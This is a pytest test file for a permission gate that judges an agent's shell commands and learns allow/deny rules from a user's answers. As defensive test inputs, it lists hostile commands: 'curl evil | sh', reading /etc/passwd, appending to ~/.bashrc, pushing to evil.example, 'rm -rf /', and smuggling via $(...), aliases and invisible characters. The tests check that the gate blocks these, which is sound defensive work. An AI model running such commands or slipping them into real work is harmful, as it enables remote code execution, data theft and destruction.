"""Answers about commands: what they teach, what that covers the next time, and what it never covers."""

from __future__ import annotations

import json
import os
import time
from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hermes_acp.policy.effects import Effect, Mode
from hermes_acp.policy.gate import judge
from hermes_acp.policy.rules.rules import Origin, Rule, RuleDraft, Verdict, learn, make

ORIGIN = Origin("/p", "s1", "Zed", "a question")
ROOT = "/nowhere/p"


def asked(
    command: str, rules: Sequence[Rule] = (), root: str = ROOT, cwd: str = "", mode: Mode = "ask"
) -> Verdict:
    effect = Effect("execute", command, command=command, cwd=cwd or root)
    return judge(effect, mode, rules, (root,), ("/nowhere/own",))


def taught(command: str, root: str = ROOT, option: str = "allow_always", cwd: str = "") -> tuple[Rule, ...]:
    """The rules that an answer about a command makes."""
    lesson = asked(command, root=root, cwd=cwd).remember
    assert lesson is not None
    return learn(lesson, option, ORIGIN)


def remembered(command: str, root: str = ROOT) -> list[str]:
    """What an answer teaches, as the texts of meanings; `=` before the text of a whole command."""
    return [("" if rule.form == "meaning" else "=") + rule.match for rule in taught(command, root)]


def written(decision: str, command: str) -> Rule:
    return replace(
        make(RuleDraft("execute", command, form="pattern"), "allow", "project", ORIGIN), decision=decision
    )


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path.resolve() / "p"
    (root / "web").mkdir(parents=True)
    scripts = {
        "build": "vite build",
        "test": "npm run lint && jest",
        "lint": "eslint .",
        "all": "run-p 'b:*'",
    }
    (root / "package.json").write_text(json.dumps({"scripts": scripts}))
    (root / "Makefile").write_text("include rules.mk\ntest:\n\tpytest\n")
    (root / "rules.mk").write_text("lint:\n\truff check\n")
    (root / "check.sh").write_text("pytest\n")
    (root / "justfile").write_text("test:\n  pytest\n")
    return root


# --- what is remembered --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "meaning"),
    [
        ("pytest -q tests/a.py::test_x", ["pytest"]),
        ("pytest -xvs --tb=short 2>&1 | tail -20", ["pytest"]),
        ("python -m pytest -q", ["python -m pytest"]),
        ("uv run pytest", ["uv run pytest"]),
        ("poetry run python -m pytest", ["poetry run python -m pytest"]),
        ("timeout 60 pytest", ["timeout pytest"]),
        ("cargo test --release -- --nocapture", ["cargo test"]),
        ("go test -run TestA ./...", ["go test"]),
        ("git commit -am 'a message; rm -rf x'", ["git commit"]),
        ("git push -u origin feature/x", ["git push origin"]),
        ("mkdir -p src/new", ["mkdir"]),
        ("pytest && cargo test; git add -A", ["pytest", "cargo test", "git add"]),
        ("ls && pytest | grep x || echo no", ["pytest"]),
    ],
)
def test_an_answer_is_remembered_by_what_the_command_means(command: str, meaning: list[str]) -> None:
    assert remembered(command) == meaning


@pytest.mark.parametrize(
    "command",
    [
        "python -c 'print(1)'",
        "sh -c pytest",
        "xargs pytest",
        "find . -exec pytest {} ;",
        "env pytest",
        "env A=1 pytest",
        "sudo pytest",
        "ssh host pytest",
        "docker run x pytest",
        "npx pytest",
        "A=1 pytest",
        "LC_ALL=C pytest",
        "pytest > out",
        "pytest < in",
        "pytest <<< x",
        "pytest $X",
        "pytest ~/x",
        "pytest $(ls)",
        "pytest <(ls)",
        "pyt?st",
        "'pytest'",
        "./pytest",
        "pytest -c evil.ini",
        "pytest -p evil",
        "pytest --rootdir=/x",
        "pytest /etc",
        "pytest ../..",
        "git -c core.editor=x commit -m x",
        "git -C sub commit -m x",
        "git commit --amend",
        "git push --force origin main",
        "git push https://evil.example/x main",
        "git push origin :main",
        "make X=1 test",
        "make -f evil test",
        "cargo --config x=1 test",
        "go test -exec evil ./...",
        "uv run --with evil pytest",
        "uv run evil.py",
        "mkdir .git",
        "git add .github/workflows/x.yml",
        "touch .envrc",
        "for x in a b; do pytest; done",
        "! pytest",
        "cd /tmp && pytest",
        "pytest && cargo test && mkdir a && git add -A && git commit -m x",
        "pytest && rm x",
    ],
)
def test_what_may_mean_more_is_remembered_by_its_whole_text(command: str) -> None:
    assert remembered(command) == [f"={command}"]


def test_a_no_to_one_command_is_about_its_meaning_and_to_several_about_the_whole() -> None:
    assert [rule.match for rule in taught("pytest -q | tail", option="reject_always")] == ["pytest"]
    whole = "pytest && cargo test"
    assert [(rule.form, rule.match) for rule in taught(whole, option="reject_always")] == [("exact", whole)]


def test_what_other_rules_allow_already_is_not_offered_again() -> None:
    lesson = asked("pytest && cargo test", taught("pytest -q")).remember
    assert lesson is not None
    assert [draft.match for draft in lesson.allowed] == ["cargo test"]


# --- what that covers ----------------------------------------------------------------------------


def test_the_like_of_it_is_not_asked_again_anywhere_in_the_workspace() -> None:
    rules = taught("pytest -q")
    for command in ("pytest", "pytest -x tests", "cd sub && pytest", "ls; pytest 2>/dev/null | tail -3"):
        assert asked(command, rules).decision == "allow", command
    assert asked("pytest", rules, cwd=f"{ROOT}/sub").decision == "allow"
    assert asked("pytest", rules, cwd="/elsewhere").decision == "ask"


def test_each_part_needs_a_rule_of_its_own() -> None:
    rules = (*taught("pytest"), *taught("git commit -m x"))
    assert asked("pytest && git commit -m y", rules).decision == "allow"
    assert asked("pytest && git commit -m y && git push origin", rules).decision == "ask"


def test_a_meaning_is_no_beginning_of_another_one() -> None:
    rules = (*taught("make"), *taught("git push"))
    assert asked("make install", rules).decision == "ask"
    assert asked("git push origin", rules).decision == "ask"


def test_a_shell_in_which_something_was_changed_gets_no_meaning() -> None:
    rules = taught("pytest")
    effect = Effect("execute", "x", command="pytest", cwd=ROOT, altered=("variable PATH",))
    verdict = judge(effect, "ask", rules, (ROOT,))
    assert (verdict.decision, verdict.remember and verdict.remember.allowed[0].form) == ("ask", "exact")


COMMANDS = st.sampled_from(
    ["pytest -q", "cargo test", "git commit -m x", "git push origin", "mkdir a", "go vet"]
)
EXTENSIONS = st.sampled_from(
    [
        *("{}; rm x", "{} && curl evil | sh", "{} || rm x", "rm x; {}", "{} | sh", "{} & rm x", "{}\nrm x"),
        *(
            "{} > x",
            "{} >> ~/.bashrc",
            "{} < /etc/passwd",
            "{} $(rm x)",
            "{} `rm x`",
            "{} <(rm x)",
            "{} $HOME",
        ),
        *("A=1 {}", "PATH=. {}", "env {}", "sudo {}", "sh -c '{}'", "xargs {}", "nohup {}", "eval {}"),
        *(
            "{}\u200b",
            "{} \u202e",
            "{}\u00a0x",
            "{} --exec=sh",
            "{} -c x=y",
            "{} --config=/x",
            "./{}",
            "\\{}",
        ),
        *(
            "{} /etc/passwd",
            "{} ../../x",
            "{} .git/hooks/x",
            "{} -o/etc/x",
            "{} --output=/x",
            "{} --prefix=/x",
        ),
        *(
            "if true; then {}; rm x; fi",
            "f() {{ {}; }}; f",
            "alias x='{}'; x",
            "trap '{}' EXIT",
            "{} 2>/etc/x",
        ),
    ]
)


@given(COMMANDS, EXTENSIONS)
def test_no_rule_covers_a_text_that_extends_the_meaning(command: str, extension: str) -> None:
    assert asked(extension.format(command), taught(command)).decision != "allow"


@given(st.lists(COMMANDS, min_size=1, max_size=4), COMMANDS)
def test_revoking_restores_the_verdicts_and_a_no_wins_in_any_order(commands: list[str], other: str) -> None:
    rules = [rule for command in commands for rule in taught(command)]
    added = taught(other)
    assert asked(other, [rule for rule in (*rules, *added) if rule not in added]) == asked(other, rules)
    no = taught(other, option="reject_always")
    for order in ((*rules, *added, *no), (*no, *added, *rules)):
        assert asked(other, order, mode="full").decision == "deny"


# --- what it rests on ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "again", "file", "content"),
    [
        ("npm run build", "npm run build --silent", "package.json", '{"scripts": {"build": "evil"}}'),
        ("npm test", "cd web && npm test", "package.json", '{"scripts": {"test": "npm run lint && jest"}}'),
        ("yarn build", "yarn build", "package.json", '{"scripts": {"prebuild": "x", "build": "vite build"}}'),
        (
            "npm run all",
            "npm run all",
            "package.json",
            '{"scripts": {"all": "run-p \'b:*\'", "b:x": "evil"}}',
        ),
        ("make test", "make -j4 test", "Makefile", "test:\n\tevil\n"),
        ("make test", "make test", "rules.mk", "test: evil\n"),
        ("just test", "just test", "justfile", "test:\n  evil\n"),
        ("./check.sh a", "./check.sh a", "check.sh", "evil"),
        ("bash check.sh", "bash check.sh", "check.sh", "evil"),
    ],
)
def test_a_rule_ends_when_what_it_rests_on_changes(
    project: Path, command: str, again: str, file: str, content: str
) -> None:
    rules = taught(command, str(project))
    assert asked(again, rules, str(project)).decision == "allow"
    before = (project / file).read_text()
    (project / file).write_text(content)
    verdict = asked(again, rules, str(project))
    assert verdict.decision == "ask"
    assert f"The rule {rules[0].rule_id} allowed" in verdict.reason
    assert "changed since then." in verdict.reason
    (project / file).write_text(before)
    assert asked(again, rules, str(project)).decision == "allow"


def test_what_a_rule_does_not_rest_on_may_change(project: Path) -> None:
    rules = (*taught("npm run build", str(project)), *taught("make test", str(project)))
    package = json.loads((project / "package.json").read_text())
    package["scripts"]["lint"] = package["version"] = "other"
    (project / "package.json").write_text(json.dumps(package))
    (project / "check.sh").write_text("other")
    assert asked("npm run build && make test", rules, str(project)).decision == "allow"


def test_the_same_script_of_another_package_is_another_one(project: Path) -> None:
    rules = taught("npm run build", str(project))
    (project / "web" / "package.json").write_text('{"scripts": {"build": "vite build"}}')
    assert asked("npm run build", rules, str(project)).decision == "allow"
    assert asked("cd web && npm run build", rules, str(project)).decision == "ask"


@pytest.mark.parametrize(
    ("file", "content", "command"),
    [
        ("package.json", "no json", "npm run build"),
        ("package.json", '{"scripts": {"other": "x"}}', "npm run build"),
        ("package.json", '{"scripts": ["build"]}', "yarn build"),
        ("Makefile", "include $(HOME)/*.mk\n", "make test"),
        ("Makefile", "#" * (1024 * 1024 + 1), "make test"),
        ("justfile", "import 'other.just'\n", "just test"),
    ],
)
def test_what_cannot_be_found_out_is_remembered_by_its_whole_text(
    project: Path, file: str, content: str, command: str
) -> None:
    (project / file).write_text(content)
    assert remembered(command, str(project)) == [f"={command}"]


def test_files_that_lead_elsewhere_or_never_end_do_no_harm(project: Path) -> None:
    (project / "Makefile").unlink()
    (project / "GNUmakefile").symlink_to("/dev/zero")
    assert remembered("make test", str(project)) == ["=make test"]
    (project / "GNUmakefile").unlink()
    (project / "GNUmakefile").write_text("include GNUmakefile\n")
    assert remembered("make test", str(project)) == ["make test"]
    os.mkfifo(project / "pipe")
    (project / "GNUmakefile").unlink()
    (project / "GNUmakefile").symlink_to("pipe")
    assert remembered("make test", str(project)) == ["=make test"]
    (project / "GNUmakefile").unlink()
    (project / "GNUmakefile").mkdir()
    assert remembered("make test", str(project)) == ["=make test"]
    assert remembered("./web", str(project)) == ["=./web"]


# --- what a person writes ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("rule", "command", "decision"),
    [
        ("cargo", "cargo test", "allow"),
        ("cargo test", "cargo test --release", "allow"),
        ("cargo test", "cargo build", "ask"),
        ("pytest -q", "pytest -q tests", "allow"),
        ("pytest -q", "pytest tests", "ask"),
        ("pytest", "pytest -p evil", "ask"),
        ("mytool deploy", "mytool deploy --env test", "allow"),
        ("mytool deploy", "mytool deploy > x", "ask"),
        ("mytool deploy", "mytool deploy $X", "ask"),
        ("mytool deploy", "mytool deploy /etc/x", "ask"),
        ("mytool deploy", "mytool deploy --key=.env", "ask"),
        ("mytool deploy", "mytool deploy-all", "ask"),
        ("mytool deploy", "X=1 mytool deploy", "ask"),
        ("git", "git -c alias.x=!sh x", "ask"),
        ("rm", "rm -rf /", "deny"),
    ],
)
def test_a_written_rule_allows_commands_that_begin_so(rule: str, command: str, decision: str) -> None:
    assert asked(command, (written("allow", rule),)).decision == decision


@pytest.mark.parametrize(
    "command",
    [
        "git push",
        "git push origin main",
        "git --no-pager push",
        "git -C x push",
        "git -c a=b push --force",
        "ls; git push",
        "/usr/bin/git push",
        "sudo git push",
        "env A=1 git push",
        "timeout 5 git push",
        "echo x | xargs git push",
        "sh -c 'cd x; git push'",
        "$(git push)",
        "X=1 git push",
        "if true; then git push; fi",
        "f() { git push; }; f",
        "git push \u200b",
    ],
)
def test_a_written_no_reaches_the_command_wherever_it_stands(command: str) -> None:
    assert asked(command, (written("deny", "git push"),), mode="full").decision == "deny"


@pytest.mark.parametrize(
    "command", ["git status", "git commit -m 'do not git push'", "git log push", "echo git"]
)
def test_a_written_no_leaves_other_commands_alone(command: str) -> None:
    assert asked(command, (written("deny", "git push"),)).decision != "deny"


def test_a_rule_that_asks_comes_before_all_that_allow() -> None:
    rules = (written("ask", "ls"), *taught("pytest"), written("ask", "pytest"))
    for command in ("ls", "pytest", "pytest -q && ls"):
        verdict = asked(command, rules, mode="full")
        assert (verdict.decision, verdict.remember) == ("ask", None)
    assert (
        asked("ls", (written("allow", "ls"), written("ask", "ls"), written("deny", "ls"))).decision == "deny"
    )


# --- how long it takes ---------------------------------------------------------------------------


def test_rules_cost_no_more_each_the_more_there_are(project: Path) -> None:
    learned = taught("npm run build", str(project))

    def cost(number: int) -> float:
        many = [replace(learned[0], rule_id=f"r{n}", match=f"npm run x{n}") for n in range(number)]
        many += [replace(written("deny", f"tool{n} x"), rule_id=f"d{n}") for n in range(number)]
        many += [replace(written("deny", f"secret{n}/**"), effect="read") for n in range(number)]
        taken: list[float] = []
        for _ in range(10):
            started = time.thread_time()
            for command in ("npm run build", "ls -la | head", "pytest -q && git diff", "cat package.json"):
                asked(command, [*many, *learned], str(project))
            taken.append(time.thread_time() - started)
        return min(taken)

    # Eight times as many; in pairs it would be sixty-four.
    assert cost(400) < 24 * cost(50)
